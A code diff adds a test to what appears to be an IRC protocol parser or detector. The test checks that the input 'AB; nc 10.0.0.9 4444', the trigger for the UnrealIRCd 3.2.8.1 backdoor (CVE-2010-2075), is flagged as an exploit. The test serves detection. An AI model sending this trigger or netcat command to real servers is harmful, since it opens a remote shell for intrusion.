@@ -37,3 +37,14 @@ test('hostile lines end', () => {
   for (const bytes of mangled(say(':a 001 b :c\r\nJOIN #x\r\n')))
     tryOut(protocol, [sliceOf(bytes, { isStream })])
 })
+
+test('the back door of UnrealIRCd is told, and nothing of what it should run', () => {
+  assert.deepEqual(factsOf(protocol, say('AB; nc 10.0.0.9 4444\r\n'), { isStream }), [
+    {
+      kind: 'anomaly',
+      what: 'exploit',
+      about: 'client',
+      detail: 'opens the back door of UnrealIRCd 3.2.8.1 (CVE-2010-2075)',
+    },
+  ])
+})
